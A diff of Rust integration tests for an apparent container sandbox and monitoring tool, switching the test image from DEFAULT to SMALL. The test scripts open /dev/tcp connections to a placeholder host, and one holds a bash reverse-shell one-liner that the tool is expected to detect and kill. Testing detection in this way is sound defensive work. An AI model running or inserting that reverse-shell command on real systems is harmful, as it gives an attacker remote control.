@@ -16,8 +16,7 @@ use coi_tests::attacker::{fill, serve};
 use coi_tests::incus::{self, Foreign, bridge, cgroups};
 use coi_tests::routes::PROGRAM;
 use coi_tests::{
-    Attacker, Cgroup, Coi, DEFAULT, Gate, Running, TINY, Viewer, actions, alerts, audit, end, eventually,
-    fired,
+    Attacker, Cgroup, Coi, Gate, Running, SMALL, TINY, Viewer, actions, alerts, audit, end, eventually, fired,
 };
 use serde_json::Value;
 use sha2::{Digest, Sha256};
@@ -69,7 +68,7 @@ fn a_denied_connection_is_not_made_and_another_is() {
     let script = "(exec 3<>/dev/tcp/HOST/PORT) 2>&1; (echo x >/dev/udp/HOST/PORT) 2>&1; \
                   exec 3<>/dev/tcp/HOST/OPEN; echo on >&3; read line <&3; echo $line";
     let script = fill(denied, script).replace("OPEN", &open.port().to_string());
-    let ended = coi.run(DEFAULT, &["bash", "-c", &script]).expect(0);
+    let ended = coi.run(SMALL, &["bash", "-c", &script]).expect(0);
     let text = ended.text();
     // Bash says each twice.
     assert_eq!(text.matches("Operation not permitted").count(), 4, "{text}");
@@ -198,7 +197,7 @@ fn a_network_is_cut_and_given_back() {
                   (exec 4<>/dev/tcp/HOST/PORT) 2>&1 | grep -m1 -o 'not permitted'; \
                   echo x >/dev/udp/127.0.0.1/9 && echo loopback; read x <back; \
                   read line <&3; echo $line; exec 5<>/dev/tcp/HOST/PORT && echo again";
-    let run = coi.start(&["run", "--image", DEFAULT, "--", "bash", "-c", &fill(place, script)]);
+    let run = coi.start(&["run", "--image", SMALL, "--", "bash", "-c", &fill(place, script)]);
     let [cut, back] = gates;
     let cut = cut.reached();
     eventually("the network is cut", || coi.ask(&format!("/v1/watches/{name}")).1["network_cut"] == true);
@@ -426,7 +425,7 @@ fn evidence_is_kept_before_a_kill() {
     let script = "bash -c 'sleep 1000; :' x --password=hunter2hunter2 & exec 7</etc/hostname; read x <gate; \
                   bash -i >& /dev/tcp/HOST/PORT 0>&1";
     coi.write("script", attacker.fill(script));
-    let run = coi.start(&["run", "--image", DEFAULT, "--", "bash", "script"]);
+    let run = coi.start(&["run", "--image", SMALL, "--", "bash", "script"]);
     gate.reached().open();
     coi.assert_killed(run.finish(), "reverse-shell-socket");
     let records = coi.audit(&name);
